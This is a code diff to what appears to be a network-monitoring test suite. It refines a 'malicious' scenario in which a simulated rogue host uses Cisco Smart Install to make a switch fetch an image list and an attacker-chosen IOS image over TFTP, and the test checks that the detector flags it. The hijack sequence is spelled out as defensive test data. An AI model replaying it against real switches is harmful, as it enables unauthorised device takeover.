@@ -17,6 +17,7 @@ DEVICE, OTHER, PC = "10.0.1.1", "10.0.1.2", "10.0.4.20"
 ATTACKER, ROGUE, ADMIN, SERVER = "10.0.6.6", "10.0.6.66", "10.0.9.10", "10.0.0.5"
 APPROVED = "c2900-universalk9-mz.SPA.157-3.M8.bin"
 EVIL = "c2960-lanbasek9-mz.150-2.SE11.bin"
+LIST = "tar_imglist0.txt"
 EVIL_IMAGE = ios(EVIL, "15.0(2)SE11", "C2960", 3000, "hijack")
 FOUNDRY_BOOT = "1.3.6.1.4.1.1991.1.1.2.4.1.1"
 
@@ -37,23 +38,24 @@ def rogue_image(device: str, file: str = EVIL) -> tuple[Notice, Notice]:
 @scenario(
     "BW30",
     "malicious",
-    plain=Expect((Notice("Smart_Install_Command", DEVICE, ROGUE, "tar_imglist0.txt"), hijack(DEVICE, EVIL))),
+    plain=Expect((Notice("Smart_Install_Command", DEVICE, ROGUE, LIST), hijack(DEVICE, LIST))),
     site=HQ,
     with_site=Expect(
         (
-            Notice("Smart_Install_Command", DEVICE, ROGUE, "tar_imglist0.txt"),
+            Notice("Smart_Install_Command", DEVICE, ROGUE, LIST),
+            Notice("Unauthorized_Boot_Server", DEVICE, ROGUE, LIST),
+            hijack(DEVICE, LIST),
             *rogue_image(DEVICE),
-            hijack(DEVICE, EVIL),
         )
     ),
 )
 def bw30_smart_install(wire: Wire) -> None:
     """A switch is told by Smart Install to take an image, and takes it."""
     tcp = Tcp(wire, ROGUE, 50786, DEVICE, smi.PORT)
-    tcp.send(smi.image(f"tftp://{ROGUE}/tar_imglist0.txt"))
+    tcp.send(smi.image(f"tftp://{ROGUE}/{LIST}"))
     tcp.close()
     wire.wait(2)
-    tftp.read(wire, DEVICE, ROGUE, "tar_imglist0.txt", EVIL.encode() + b"\n", client_port=50001)
+    tftp.read(wire, DEVICE, ROGUE, LIST, EVIL.encode() + b"\n", client_port=50001)
     wire.wait(1)
     tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE, client_port=50002, server_port=32769)
 
